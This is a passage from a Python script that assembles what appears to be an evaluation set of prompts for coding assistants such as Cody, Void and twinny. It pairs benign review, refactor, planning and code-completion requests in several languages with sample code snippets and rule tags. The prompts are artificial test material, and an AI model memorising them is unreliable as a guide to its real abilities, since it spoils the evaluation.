    "We have 40 Spark jobs in Scala 2.12 on EMR. We're considering moving to Databricks and maybe rewriting some in PySpark because nobody wants to learn Scala anymore. How should we evaluate this and plan it?",
    S["scala_spark"], rule="R6")
add("librechat", "review", "en", "swift",
    "Why does this SwiftUI view not update when I change `settings.darkMode` from another screen?\n\n```swift\nstruct ProfileView: View {\n    @State var settings = SettingsStore()\n    var body: some View {\n        Toggle(\"Dark mode\", isOn: $settings.darkMode)\n    }\n}\n```",
    rule="R5")
add("librechat", "completion", "en", "elixir",
    "Elixir function that takes a list of maps with :date (Date) and :amount and returns totals per ISO week as a map of {year, week} => amount",
    rule="R7")


# ---------------------------------------------------------------------------------------
# Batch 6: Sourcegraph Cody (chat, edit) and Void (chat, quick edit, autocomplete)
# ---------------------------------------------------------------------------------------

snip("ts_webhook", "typescript", "src/webhooks/stripe.ts", '''
import type { Request, Response } from "express";
import Stripe from "stripe";
import { db } from "../db";
import { logger } from "../logger";

const stripe = new Stripe(process.env.STRIPE_SECRET_KEY!, { apiVersion: "2024-06-20" });

export async function stripeWebhook(req: Request, res: Response) {
  const sig = req.headers["stripe-signature"] as string;
  let event: Stripe.Event;
  try {
    event = stripe.webhooks.constructEvent(req.body, sig, process.env.STRIPE_WEBHOOK_SECRET!);
  } catch (err) {
    logger.warn({ err }, "bad stripe signature");
    return res.status(400).send("bad signature");
  }

  switch (event.type) {
    case "checkout.session.completed": {
      const session = event.data.object as Stripe.Checkout.Session;
      await db.order.update({ where: { id: session.client_reference_id! }, data: { status: "paid" } });
      break;
    }
    case "charge.refunded": {
      const charge = event.data.object as Stripe.Charge;
      await db.order.updateMany({ where: { stripeChargeId: charge.id }, data: { status: "refunded" } });
      break;
    }
    default:
      logger.debug({ type: event.type }, "ignored stripe event");
  }
  res.json({ received: true });
}
''')

snip("py_worker", "python", "worker/tasks.py", '''
import logging

from celery import shared_task
from django.core.mail import send_mail

from shop.models import Order

log = logging.getLogger(__name__)


@shared_task(bind=True, max_retries=5)
def send_order_confirmation(self, order_id):
    order = Order.objects.select_related("user").get(pk=order_id)
    try:
        send_mail(
            subject=f"Order #{order.pk} confirmed",
            message=render_confirmation(order),
            from_email="shop@example.com",
            recipient_list=[order.user.email],
        )
    except Exception as exc:
        log.warning("mail failed for order %s: %s", order_id, exc)
        raise self.retry(exc=exc, countdown=60)


@shared_task
def cancel_stale_orders():
    from datetime import timedelta
    from django.utils import timezone

    cutoff = timezone.now() - timedelta(hours=24)
    for order in Order.objects.filter(status=Order.Status.PENDING, created_at__lt=cutoff):
        order.status = Order.Status.CANCELLED
        order.save()


def render_confirmation(order):
    lines = [f"Thanks for your order #{order.pk}!", ""]
    for item in order.items.all():
        lines.append(f"{item.quantity} x {item.product.name}  {item.price}")
    lines.append("")
    lines.append(f"Total: {order.total()}")
    return "\\n".join(lines)
''')

snip("java_parser", "java", "src/main/java/com/acme/csv/CsvReader.java", '''
package com.acme.csv;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.Reader;
import java.util.ArrayList;
import java.util.List;

public class CsvReader {
    private final BufferedReader in;
    private final char sep;

    public CsvReader(Reader r, char sep) {
        this.in = new BufferedReader(r);
        this.sep = sep;
    }

    public List<String> next() throws IOException {
        String line = in.readLine();
        if (line == null) return null;
        List<String> out = new ArrayList<>();
        StringBuilder cur = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < line.length(); i++) {
            char c = line.charAt(i);
            if (c == '"') {
                quoted = !quoted;
            } else if (c == sep && !quoted) {
                out.add(cur.toString());
                cur.setLength(0);
            } else {
                cur.append(c);
            }
        }
        out.add(cur.toString());
        return out;
    }
}
''')

# --- Cody chat ----------------------------------------------------------------------------

add("cody_chat", "review", "en", "typescript",
    "@src/webhooks/stripe.ts what happens if Stripe delivers checkout.session.completed twice?",
    S["ts_webhook"], rule="R6")
add("cody_chat", "refactor", "en", "typescript",
    "make the webhook idempotent: store processed event ids in a stripe_events table (insert on conflict do nothing) and skip duplicates",
    S["ts_webhook"], rule="R8")
add("cody_chat", "planning", "en", "typescript",
    "We want to add subscriptions (monthly plans, upgrades/downgrades with proration, dunning) on top of this one-off checkout flow. Which parts of the codebase change and in what order? Give me the design first.",
    [S["ts_webhook"], S["ts_express_orders"]], rule="R7")
add("cody_chat", "review", "en", "python",
    "explain send_order_confirmation — specifically what self.retry does with the exception and countdown",
    S["py_worker"], rule="R6")
add("cody_chat", "refactor", "en", "python",
    "cancel_stale_orders should do a single UPDATE instead of saving in a loop, and release inventory for each cancelled order (there's release_stock(order) in shop/inventory.py)",
    S["py_worker"], rule="R8")
add("cody_chat", "completion", "en", "python",
    "write pytest tests for render_confirmation using model_bakery for the order and two items",
    S["py_worker"], rule="R4")
add("cody_chat", "planning", "en", "python",
    "Our celery setup: one redis broker, 3 queues, tasks like these. We lose tasks when redis restarts and we have no visibility into failures. What should we change — RabbitMQ? acks_late? a dead letter queue? monitoring? Give me a prioritized plan.",
    S["py_worker"], rule="R5")
add("cody_chat", "review", "de", "java",
    "@CsvReader.java Kommt der Parser mit Anführungszeichen innerhalb von Feldern klar, also \"\" als Escape? Und mit Zeilenumbrüchen in Feldern?",
    S["java_parser"], rule="R6")
add("cody_chat", "refactor", "de", "java",
    "Bau das so um, dass \"\" innerhalb eines gequoteten Felds als ein \" gelesen wird und Felder über mehrere Zeilen gehen dürfen.",
    S["java_parser"], rule="R8")
add("cody_chat", "planning", "en", "java",
    "we parse ~200 different CSV formats from suppliers with this class plus per-supplier mapping code. it's a mess. how would you redesign the import pipeline (config-driven mappings? a DSL? validation, error reporting back to suppliers)?",
    S["java_parser"], rule="R7")
add("cody_chat", "review", "zh", "go",
    "@internal/crawl/pool.go 这个 worker pool 如果 ctx 被取消了，会不会有 goroutine 泄漏？",
    S["go_worker"], rule="R6")
add("cody_chat", "planning", "zh", "go",
    "我们想把这个爬虫做成多租户的 SaaS，每个客户有自己的抓取任务和配额。整体架构怎么设计？任务调度、存储、限流、计费这些模块怎么拆",
    S["go_worker"], rule="R7")
add("cody_chat", "review", "ja", "rust",
    "@src/routes/notes.rs この unwrap が本番で panic したら axum のサーバー全体が落ちますか？それともそのリクエストだけ？",
    S["rs_axum"], rule="R6")
add("cody_chat", "planning", "ja", "rust",
    "notes-api に全文検索を追加したいです。Postgres の tsvector で済ませるか、Meilisearch / Tantivy を使うか。日本語の検索も必要です。比較と導入手順をお願いします",
    S["rs_axum"], rule="R6")
add("cody_chat", "review", "en", "none",
    "What is the difference between `git rebase --onto` and a normal rebase? I always get confused",
    rule="R6")
add("cody_chat", "completion", "en", "go",
    "Generate a Go struct with json tags for this payload, and a func that validates required fields (id, email, created_at):\n\n{\"id\": \"usr_123\", \"email\": \"a@example.com\", \"display_name\": \"A\", \"created_at\": \"2025-10-14T08:00:00Z\", \"roles\": [\"admin\"], \"settings\": {\"theme\": \"dark\", \"tz\": \"Europe/Berlin\"}}",
    rule="R7")
add("cody_chat", "review", "ru", "cpp",
    "@src/lru_cache.h Какая асимптотика у put и get? И почему тут list, а не vector?",
    S["cpp_lru"], rule="R6")
add("cody_chat", "planning", "ru", "none",
    "Нам нужно внедрить code review с помощью LLM в наш GitLab: кто пишет промпты, как не слить код наружу, как мерить пользу. С чего начать пилот и как его оценивать?",
    rule="R7")
add("cody_chat", "review", "es", "python",
    "¿Qué hace exactamente `select_related(\"user\")` aquí y en qué se diferencia de `prefetch_related`?",
    S["py_worker"], rule="R6")
add("cody_chat", "planning", "es", "python",
    "Tenemos que internacionalizar la tienda (es, en, pt) incluyendo emails como este, precios en varias monedas e impuestos por país. ¿Cómo lo plantearías en Django? Pasos y decisiones importantes.",
    S["py_worker"], rule="R7")
add("cody_chat", "review", "en", "c",
    "@src/hashtable.c walk me through ht_free, is there any path that leaks?",
    S["c_hashtable"], rule="R6")
add("cody_chat", "completion", "en", "c",
    "write a main() that reads words from stdin and uses this hashtable to count occurrences, then prints the 10 most frequent",
    S["c_hashtable"], rule="R7")
add("cody_chat", "planning", "en", "none",
    "Our monorepo CI takes 45 minutes. 30 packages (TS + Go), GitHub Actions, no caching beyond node_modules. Where would you start and what's the roadmap to get under 10 minutes?",
    rule="R5")
add("cody_chat", "review", "en", "javascript",
    "@webpack.config.js why is my admin bundle including all of main's dependencies?",
    S["js_webpack"], rule="R5")
add("cody_chat", "refactor", "en", "javascript",
    "add splitChunks so vendor code is shared between main and admin, and use a function for the HtmlWebpackPlugin instances",
    S["js_webpack"], rule="R8")
add("cody_chat", "planning", "ko", "none",
    "우리 팀 모바일 앱이 React Native 0.68 인데 0.76 + 새 아키텍처(Fabric, TurboModules)로 올리려고 해. 네이티브 모듈이 8개 있어. 어떤 순서로 진행해야 위험이 적을까?",
    rule="R5")
add("cody_chat", "review", "en", "sql",
    "@reports/monthly_churn.sql can you explain what each CTE computes with a tiny example (3 customers, 3 months)?",
    S["sql_report"], rule="R6")
add("cody_chat", "planning", "it", "none",
    "Dobbiamo scegliere come gestire i permessi nella nostra app (RBAC semplice, ABAC, o qualcosa tipo OpenFGA/Zanzibar). Abbiamo organizzazioni, team, progetti e documenti condivisibili. Cosa consigli e come lo introduciamo gradualmente?",
    rule="R6")
add("cody_chat", "review", "en", "typescript",
    "is there any reason to keep `apiVersion` pinned like this, or should it follow the account default?",
    S["ts_webhook"], rule="R6")
add("cody_chat", "refactor", "en", "go",
    "@internal/config/config.go switch this to use struct tags + github.com/caarlos0/env/v11 instead of manual getenv calls",
    S["go_config"], rule="R8")

# --- Cody edit -----------------------------------------------------------------------------

snip("py_dateutil", "python", "app/util/dates.py", '''
def business_days_between(start, end, holidays=()):
    days = 0
    d = start
    while d < end:
        if d.weekday() < 5 and d not in holidays:
            days += 1
        d += timedelta(days=1)
    return days
''')

snip("ts_fetch_users", "typescript", "src/api/users.ts", '''
export function fetchUsers(page, cb) {
  fetch("/api/users?page=" + page)
    .then(function (r) { return r.json(); })
    .then(function (data) { cb(null, data); })
    .catch(function (e) { cb(e); });
}
''')

snip("go_sum", "go", "internal/report/sum.go", '''
func SumByCategory(items []Item) map[string]float64 {
	out := map[string]float64{}
	for i := 0; i < len(items); i++ {
		it := items[i]
		if it.Deleted == false {
			if _, ok := out[it.Category]; ok {
				out[it.Category] = out[it.Category] + it.Price*float64(it.Qty)
			} else {
				out[it.Category] = it.Price * float64(it.Qty)
			}
		}
	}
	return out
}
''')

snip("rs_parse_kv", "rust", "src/kv.rs", '''
pub fn parse_kv(line: &str) -> Option<(String, String)> {
    let parts: Vec<&str> = line.split("=").collect();
    if parts.len() != 2 {
        return None;
    }
    let k = parts[0].trim().to_string();
    let v = parts[1].trim().to_string();
    if k.len() == 0 {
        return None;
    }
    return Some((k, v));
}
''')

snip("cpp_reader", "cpp", "src/file_reader.cpp", '''
std::string read_file(const char* path) {
    FILE* f = fopen(path, "rb");
    fseek(f, 0, SEEK_END);
    long n = ftell(f);
    fseek(f, 0, SEEK_SET);
    char* buf = (char*)malloc(n + 1);
    fread(buf, 1, n, f);
    buf[n] = 0;
    std::string s(buf);
    free(buf);
    fclose(f);
    return s;
}
''')

snip("c_cmp", "c", "src/sort_users.c", '''
int cmp_users(const void *a, const void *b)
{
    const struct user *ua = a, *ub = b;
    if (ua->age != ub->age)
        return ua->age - ub->age;
    return strcmp(ua->name, ub->name);
}
''')

snip("java_mapper", "java", "src/main/java/com/acme/api/UserMapper.java", '''
public class UserMapper {
    public static UserDto toDto(User u) {
        UserDto d = new UserDto();
        d.setId(u.getId());
        d.setEmail(u.getEmail());
        d.setName(u.getFirstName() + " " + u.getLastName());
        d.setAdmin(u.getRoles().contains("ADMIN"));
        return d;
    }
}
''')

add("cody_edit", "refactor", "en", "python", "use numpy.busday_count if available, otherwise keep the loop; add type hints", S["py_dateutil"], rule="R8")
add("cody_edit", "refactor", "en", "typescript", "convert to async/await and add types, return Promise<User[]> instead of the callback", S["ts_fetch_users"], rule="R8")
add("cody_edit", "refactor", "en", "go", "simplify", S["go_sum"], rule="R8")
add("cody_edit", "refactor", "en", "rust", "make it idiomatic: split_once, no explicit return, return Option<(&str, &str)> borrowing from line", S["rs_parse_kv"], rule="R8")
add("cody_edit", "refactor", "en", "cpp", "handle errors (throw std::runtime_error with the path and strerror) and use ifstream instead of FILE*", S["cpp_reader"], rule="R8")
add("cody_edit", "refactor", "en", "c", "this comparator can overflow for extreme ages, fix it", S["c_cmp"], rule="R8")
add("cody_edit", "refactor", "en", "java", "handle null first/last names and turn it into a record-based mapper with a static factory", S["java_mapper"], rule="R8")
add("cody_edit", "refactor", "zh", "python", "加上 holidays 的类型检查，start > end 的时候返回负数", S["py_dateutil"], rule="R8")
add("cody_edit", "refactor", "ja", "go", "ゼロ値の扱いを活かして if/else を消してください", S["go_sum"], rule="R8")
add("cody_edit", "refactor", "ru", "java", "переименуй toDto в toUserDto и сделай класс final с приватным конструктором", S["java_mapper"], rule="R8")
add("cody_edit", "refactor", "es", "typescript", "añade manejo de errores HTTP: si r.ok es false, rechaza con un Error que incluya el status", S["ts_fetch_users"], rule="R8")
add("cody_edit", "refactor", "de", "rust", "Fehler statt Option zurückgeben (eigener Error-Typ mit den Varianten MissingEquals und EmptyKey)", S["rs_parse_kv"], rule="R8")
add("cody_edit", "refactor", "en", "python", "apply the review comment: 'avoid the O(n) loop for long ranges, compute whole weeks arithmetically'", S["py_dateutil"], rule="R8")
add("cody_edit", "refactor", "en", "cpp", "return std::optional<std::string> instead of throwing, callers prefer that", S["cpp_reader"], rule="R8")
add("cody_edit", "completion", "en", "python", "add a function next_business_day(d, holidays=()) that returns the next weekday not in holidays", S["py_dateutil"], intent="add", rule="R7")
add("cody_edit", "completion", "en", "typescript", "add fetchUser(id: string): Promise<User> following the same pattern", S["ts_fetch_users"], intent="add", rule="R7")
add("cody_edit", "completion", "en", "go", "add AverageByCategory that reuses SumByCategory and counts non-deleted items", S["go_sum"], intent="add", rule="R7")
add("cody_edit", "completion", "en", "rust", "add parse_kv_file(text: &str) -> Vec<(String, String)> that skips blank lines and # comments", S["rs_parse_kv"], intent="add", rule="R7")
add("cody_edit", "completion", "en", "go", "Generate unit tests for SumByCategory", S["go_sum"], intent="test", rule="R4")
add("cody_edit", "completion", "en", "java", "Generate unit tests for UserMapper.toDto covering admin and non-admin users", S["java_mapper"], intent="test", rule="R4")
add("cody_edit", "completion", "en", "c", "Generate unit tests for cmp_users using assert.h, include the equal-age tie-break", S["c_cmp"], intent="test", rule="R4")
add("cody_edit", "completion", "zh", "rust", "为 parse_kv 生成单元测试，包括空 key、没有等号、多个等号的情况", S["rs_parse_kv"], intent="test", rule="R4")
add("cody_edit", "completion", "ja", "python", "business_days_between のテストを pytest で書いて。祝日ありとなしのケース", S["py_dateutil"], intent="test", rule="R4")
add("cody_edit", "completion", "en", "cpp", "add a write_file(const char* path, const std::string& data) counterpart", S["cpp_reader"], intent="add", rule="R7")
add("cody_edit", "completion", "en", "typescript", "Add a TSDoc comment describing parameters, callback contract and errors", S["ts_fetch_users"], rule="R7")

# --- Void chat ----------------------------------------------------------------------------

add("void_chat", "review", "en", "python",
    "why do I get `django.db.utils.OperationalError: database is locked` when this task runs in tests?",
    S["py_worker"], rule="R5", repo="shop")
add("void_chat", "planning", "en", "python",
    "I want to split this monolithic tasks.py (it's actually 1800 lines, this is a piece) into per-domain task modules and add proper routing to queues. how should I organize it and what's the safe order given tasks already in flight use the old names?",
    S["py_worker"], rule="R7", repo="shop")
add("void_chat", "refactor", "en", "typescript",
    "log the event id and type on every branch and return 500 (so Stripe retries) when the DB update throws",
    S["ts_webhook"], rule="R8", repo="shop-api")
add("void_chat", "review", "en", "typescript",
    "Is using req.body here correct? I'm using express.json() globally.",
    S["ts_webhook"], rule="R6", repo="shop-api")
add("void_chat", "planning", "en", "none",
    "I'm starting a new project: a multiplayer quiz game for classrooms (teacher hosts, 30 students join with a code, realtime scoreboard). What stack would you choose and how should the realtime part work? Give me an architecture and a build order.",
    rule="R7", repo="quizroom")
add("void_chat", "completion", "en", "typescript",
    "write a React hook useCountdown(seconds, onDone) that returns remaining seconds, pauses when the tab is hidden, and cleans up properly",
    rule="R7", repo="quizroom")
add("void_chat", "review", "zh", "java",
    "这个 CsvReader 在读 GBK 编码的文件时中文乱码，是哪里的问题？",
    S["java_parser"], rule="R5", repo="importer")
add("void_chat", "planning", "zh", "none",
    "我们的单体应用想拆出一个独立的用户中心（登录、权限、组织架构），给 5 个内部系统用 SSO。OAuth2/OIDC 自建还是用 Keycloak？拆分的步骤和风险是什么？",
    rule="R6", repo="portal")
add("void_chat", "refactor", "ja", "swift",
    "FeedViewModel を @Observable マクロを使う形に書き換えてください。Combine は不要なので消して",
    S["swift_vm"], rule="R8", repo="ios-app")
add("void_chat", "planning", "ja", "swift",
    "iOS アプリに Android 版を追加する予定です。Kotlin Multiplatform でロジックを共有するか、Flutter で作り直すか、ネイティブで 2 本書くか。チームは iOS エンジニア 3 人です。判断材料と進め方を教えてください",
    S["swift_vm"], rule="R6", repo="ios-app")
add("void_chat", "review", "ru", "rust",
    "Почему компилятор ругается `cannot borrow *self as mutable because it is also borrowed as immutable` вот тут?\n\n```rust\nimpl Inventory {\n    fn restock(&mut self, sku: &str, n: u32) {\n        if let Some(item) = self.items.get(sku) {\n            self.log(format!(\"restock {} by {}\", item.name, n));\n            self.items.get_mut(sku).unwrap().qty += n;\n        }\n    }\n    fn log(&mut self, msg: String) { self.history.push(msg); }\n}\n```",
    rule="R5", repo="inventory-rs")
add("void_chat", "refactor", "ru", "rust",
    "Исправь restock, чтобы компилировалось, без клонирования всего item",
    "```rust\nimpl Inventory {\n    fn restock(&mut self, sku: &str, n: u32) {\n        if let Some(item) = self.items.get(sku) {\n            self.log(format!(\"restock {} by {}\", item.name, n));\n            self.items.get_mut(sku).unwrap().qty += n;\n        }\n    }\n    fn log(&mut self, msg: String) { self.history.push(msg); }\n}\n```",
    rule="R8", repo="inventory-rs")
add("void_chat", "planning", "de", "none",
    "Wir wollen unsere interne Doku (Markdown im Repo, Confluence, Notion-Reste) in ein System zusammenführen und eine Suche mit LLM-Antworten davorsetzen. Welche Architektur würdest du vorschlagen und was bauen wir zuerst?",
    rule="R7", repo="docs")
add("void_chat", "review", "es", "go",
    "¿Esta función tiene alguna condición de carrera? La llaman varios goroutines a la vez",
    S["go_kv"], rule="R6", repo="kvstore")
add("void_chat", "completion", "es", "go",
    "Escribe un benchmark (testing.B) para KV.Set y KV.Get con 10.000 claves",
    S["go_kv"], rule="R4", repo="kvstore")
add("void_chat", "planning", "en", "go",
    "this service has grown to 40 handlers in one package. what package layout would you move to (by feature? hexagonal?) and how do we migrate incrementally while 4 people keep shipping features?",
    S["go_handler"], rule="R6", repo="billing-api")
add("void_chat", "refactor", "en", "c",
    "make utf8_len branchless-ish with a lookup table for the lead byte and keep the same validation",
    S["c_utf8"], rule="R8", repo="textlib")
add("void_chat", "review", "en", "cpp",
    "clang-tidy says `Matrix::operator*` 'performance-unnecessary-value-param' somewhere and also warns about implicit widening. what does it mean here?",
    S["cpp_matrix"], rule="R5", repo="numlab")
add("void_chat", "planning", "en", "cpp",
    "numlab needs GPU support for the big matrix ops. CUDA only, or go through something like Kokkos / SYCL so AMD works too? we're a 2-person team. what's the plan",
    S["cpp_matrix"], rule="R6", repo="numlab")
add("void_chat", "completion", "ko", "python",
    "슬랙 웹훅으로 메시지 보내는 함수 만들어줘. 실패하면 3번 재시도하고, 텍스트가 3000자 넘으면 잘라서 여러 번 보내게",
    rule="R7", repo="alerts")
add("void_chat", "planning", "it", "none",
    "Devo progettare il backend per un'app di prenotazione campi da padel: disponibilità in tempo reale, pagamenti, cancellazioni con rimborso parziale, più circoli. Come struttureresti dati e servizi?",
    rule="R7", repo="padel")
add("void_chat", "review", "en", "lua",
    "what does `%!v:lua.require'ui.statusline'.render()` mean exactly? the %! part",
    S["lua_statusline"], rule="R6", repo="dotfiles")
add("void_chat", "planning", "en", "none",
    "we have to pick between server-side sessions and JWTs for a new web + mobile product. revocation matters (banking-adjacent). what do you recommend and what does the full auth flow look like",
    rule="R6", repo="fin-app")
add("void_chat", "refactor", "en", "java",
    "Turn ReportJob into something testable: inject a Clock, move the recipients loop into ReportService.sendDaily(), and keep the cron",
    S["java_sched"], rule="R8", repo="reports")

# --- Void quick edit (Ctrl+K) ---------------------------------------------------------------

add("void_quick", "refactor", "en", "python", "use a dict comprehension",
    fim="def index_by_id(users):\n<<<    out = {}\n    for u in users:\n        out[u[\"id\"]] = u\n    return out\n>>>\n\ndef emails(users):\n    return [u[\"email\"] for u in users]\n", rule="R8")
add("void_quick", "refactor", "en", "typescript", "early return instead of nested ifs",
    fim="export function canEdit(user: User, doc: Doc): boolean {\n<<<  if (user) {\n    if (doc.ownerId === user.id) {\n      return true;\n    } else {\n      if (user.roles.includes(\"admin\")) {\n        return true;\n      }\n    }\n  }\n  return false;\n>>>}\n", rule="R8")
add("void_quick", "completion", "en", "go", "parse the duration from the query param 'ttl' (default 5m, max 1h), 400 on error",
    fim="func (h *Handler) CreateLink(w http.ResponseWriter, r *http.Request) {\n\turl := r.URL.Query().Get(\"url\")\n\tif url == \"\" {\n\t\thttp.Error(w, \"url required\", http.StatusBadRequest)\n\t\treturn\n\t}\n<<<>>>\n\tlink, err := h.store.Create(r.Context(), url, ttl)\n\tif err != nil {\n\t\thttp.Error(w, \"internal error\", http.StatusInternalServerError)\n\t\treturn\n\t}\n\tjson.NewEncoder(w).Encode(link)\n}\n", rule="R7")
add("void_quick", "refactor", "zh", "javascript", "改成 async/await",
    fim="function loadConfig(path) {\n<<<  return fs.promises.readFile(path, \"utf8\")\n    .then((text) => JSON.parse(text))\n    .then((cfg) => Object.assign({}, DEFAULTS, cfg))\n    .catch((err) => {\n      console.warn(\"using defaults:\", err.message);\n      return DEFAULTS;\n    });\n>>>}\n", rule="R8")
add("void_quick", "completion", "en", "rust", "impl Display for this: \"#<id> <title> [done]\" or without [done]",
    fim="#[derive(Debug, Clone)]\npub struct Task {\n    pub id: u32,\n    pub title: String,\n    pub done: bool,\n}\n\n<<<>>>\n\nimpl Task {\n    pub fn new(id: u32, title: impl Into<String>) -> Self {\n        Self { id, title: title.into(), done: false }\n    }\n}\n", rule="R7")
add("void_quick", "refactor", "ja", "java", "switch 式に書き換えて",
    fim="    public static String label(Status s) {\n<<<        String label;\n        switch (s) {\n            case OPEN:\n                label = \"未対応\";\n                break;\n            case IN_PROGRESS:\n                label = \"対応中\";\n                break;\n            case DONE:\n                label = \"完了\";\n                break;\n            default:\n                label = \"不明\";\n        }\n        return label;\n>>>    }\n", rule="R8")
add("void_quick", "refactor", "en", "cpp", "use std::accumulate",
    fim="double average(const std::vector<double>& xs) {\n    if (xs.empty()) return 0.0;\n<<<    double sum = 0;\n    for (size_t i = 0; i < xs.size(); ++i) sum += xs[i];\n>>>    return sum / xs.size();\n}\n", rule="R8")
add("void_quick", "completion", "de", "python", "Hier die Validierung: PLZ muss 5 Ziffern sein, sonst ValueError mit Feldname",
    fim="def create_address(street: str, zip_code: str, city: str) -> Address:\n<<<>>>\n    return Address(street=street.strip(), zip_code=zip_code, city=city.strip())\n", rule="R7")
add("void_quick", "refactor", "en", "c", "bounds-check idx and return -1 instead of reading past the end",
    fim="int get_sample(const struct buffer *b, size_t idx)\n{\n<<<    return b->samples[idx];\n>>>}\n", rule="R8")
add("void_quick", "refactor", "es", "sql", "usa un CTE en vez de la subconsulta repetida",
    fim="<<<SELECT u.id, u.email,\n       (SELECT count(*) FROM orders o WHERE o.user_id = u.id AND o.status = 'paid') AS paid_orders,\n       (SELECT sum(total) FROM orders o WHERE o.user_id = u.id AND o.status = 'paid') AS paid_total\nFROM users u\nWHERE (SELECT count(*) FROM orders o WHERE o.user_id = u.id AND o.status = 'paid') > 0;\n>>>", rule="R8")
add("void_quick", "completion", "en", "typescript", "zod schema for this interface",
    fim="export interface Invoice {\n  id: string;\n  customerId: string;\n  lines: { sku: string; qty: number; unitPrice: number }[];\n  dueDate: string; // ISO date\n  status: \"draft\" | \"sent\" | \"paid\";\n}\n\n<<<>>>\n", rule="R7")
add("void_quick", "refactor", "en", "swift", "guard let instead of the pyramid",
    fim="func handle(_ url: URL) {\n<<<    if let comps = URLComponents(url: url, resolvingAgainstBaseURL: false) {\n        if let item = comps.queryItems?.first(where: { $0.name == \"id\" }) {\n            if let id = item.value {\n                router.open(postID: id)\n            }\n        }\n    }\n>>>}\n", rule="R8")

# --- Void autocomplete (FIM) -----------------------------------------------------------------

add("void_fim", "completion", "en", "python", fim="import hashlib\nfrom pathlib import Path\n\n\ndef sha256_file(path: Path, chunk_size: int = 1 << 20) -> str:\n    h = hashlib.sha256()\n    with path.open(\"rb\") as f:\n        <|C|>\n    return h.hexdigest()\n", rule="R1")
add("void_fim", "completion", "en", "typescript", fim="export function debounce<T extends (...args: any[]) => void>(fn: T, ms: number) {\n  let t: ReturnType<typeof setTimeout> | undefined;\n  return (...args: Parameters<T>) => {\n    <|C|>\n  };\n}\n", rule="R1")
add("void_fim", "completion", "en", "go", fim="func (s *Server) routes() http.Handler {\n\tmux := http.NewServeMux()\n\tmux.HandleFunc(\"GET /healthz\", s.health)\n\tmux.HandleFunc(\"GET /accounts/{id}\", s.GetAccount)\n\tmux.HandleFunc(\"PUT /accounts/{id}/plan\", s.UpdatePlan)\n\t<|C|>\n\treturn httpx.Logging(s.log)(mux)\n}\n", single_line=True, rule="R1")
add("void_fim", "completion", "en", "rust", fim="impl<V: Clone> Cache<V> {\n    pub fn len(&self) -> usize {\n        self.inner.lock().unwrap().len()\n    }\n\n    pub fn purge_expired(&self) -> usize {\n        let mut map = self.inner.lock().unwrap();\n        let before = map.len();\n        <|C|>\n        before - map.len()\n    }\n}\n", rule="R1")
add("void_fim", "completion", "en", "java", fim="    @Override\n    public boolean equals(Object o) {\n        if (this == o) return true;\n        if (!(o instanceof Money other)) return false;\n        <|C|>\n    }\n\n    @Override\n    public int hashCode() {\n        return Objects.hash(amount, currency);\n    }\n", single_line=True, rule="R1")
add("void_fim", "completion", "en", "c", fim="#include <stdio.h>\n#include <stdlib.h>\n\nint main(int argc, char **argv)\n{\n    if (argc < 2) {\n        fprintf(stderr, \"usage: %s FILE\\n\", argv[0]);\n        return 1;\n    }\n    FILE *f = fopen(argv[1], \"r\");\n    if (!f) {\n        <|C|>\n    }\n", rule="R1")
add("void_fim", "completion", "en", "cpp", fim="template <typename T>\nstd::vector<std::vector<T>> chunk(const std::vector<T>& v, size_t n) {\n    std::vector<std::vector<T>> out;\n    for (size_t i = 0; i < v.size(); i += n) {\n        <|C|>\n    }\n    return out;\n}\n", rule="R1")
add("void_fim", "completion", "zh", "python", fim="def parse_amount(s: str) -> Decimal:\n    \"\"\"把 '¥1,234.50' / '1234.5元' 这类字符串解析成 Decimal\"\"\"\n    # 去掉货币符号和千分位逗号\n    <|C|>\n", rule="R1")
add("void_fim", "completion", "en", "javascript", fim="app.get(\"/posts/:id\", async (req, res) => {\n  const post = await Post.findById(req.params.id);\n  if (!post) return res.sendStatus(404);\n  <|C|>\n});\n", single_line=True, rule="R1")
add("void_fim", "completion", "en", "sql", fim="-- revenue per day for the last 30 days, zero-filled\nSELECT d::date AS day, coalesce(sum(o.total), 0) AS revenue\nFROM generate_series(current_date - 29, current_date, interval '1 day') AS d\n<|C|>\nGROUP BY 1\nORDER BY 1;\n", rule="R1")
add("void_fim", "completion", "en", "typescript", fim="type Action =\n  | { type: \"add\"; item: CartItem }\n  | { type: \"remove\"; sku: string }\n  | { type: \"clear\" };\n\nexport function cartReducer(state: CartItem[], action: Action): CartItem[] {\n  switch (action.type) {\n    case \"add\":\n      <|C|>\n    case \"remove\":\n      return state.filter((i) => i.sku !== action.sku);\n    case \"clear\":\n      return [];\n  }\n}\n", rule="R1")
add("void_fim", "completion", "en", "python", fim="class Stack:\n    def __init__(self):\n        self._items = []\n\n    def push(self, x):\n        self._items.append(x)\n\n    def pop(self):\n        <|C|>\n\n    def __len__(self):\n        return len(self._items)\n", single_line=True, rule="R1")


# ---------------------------------------------------------------------------------------
# Batch 7: twinny, minuet-ai.nvim (FIM on /v1/completions) and raw completion scripts
# ---------------------------------------------------------------------------------------

# --- twinny FIM -----------------------------------------------------------------------------

add("twinny", "completion", "en", "typescript", path="src/server/routes/health.ts", fam="qwen", rule="R1",
    fim="import { Router } from \"express\";\nimport { pool } from \"../db\";\n\nexport const health = Router();\n\nhealth.get(\"/healthz\", async (_req, res) => {\n  try {\n    <|C|>\n  } catch (err) {\n    res.status(503).json({ ok: false, error: (err as Error).message });\n  }\n});\n")
add("twinny", "completion", "en", "python", path="app/services/slugs.py", fam="deepseek", rule="R1",
    fim="import re\nimport unicodedata\n\n\ndef slugify(value: str, max_len: int = 80) -> str:\n    value = unicodedata.normalize(\"NFKD\", value).encode(\"ascii\", \"ignore\").decode()\n    value = re.sub(r\"[^\\w\\s-]\", \"\", value).strip().lower()\n    <|C|>\n\n\ndef unique_slug(value: str, exists) -> str:\n    base = slugify(value)\n    slug, n = base, 2\n    while exists(slug):\n        slug = f\"{base}-{n}\"\n        n += 1\n    return slug\n")
add("twinny", "completion", "en", "go", path="internal/store/users.go", fam="codellama", rule="R1",
    fim="func (s *Store) UserByEmail(ctx context.Context, email string) (*User, error) {\n\tvar u User\n\terr := s.db.QueryRowContext(ctx, `SELECT id, email, name, created_at FROM users WHERE email = $1`, email).\n\t\tScan(&u.ID, &u.Email, &u.Name, &u.CreatedAt)\n\tif errors.Is(err, sql.ErrNoRows) {\n\t\t<|C|>\n\t}\n\tif err != nil {\n\t\treturn nil, fmt.Errorf(\"user by email: %w\", err)\n\t}\n\treturn &u, nil\n}\n")
add("twinny", "completion", "en", "rust", path="src/bin/replay.rs", fam="starcoder", rule="R1",
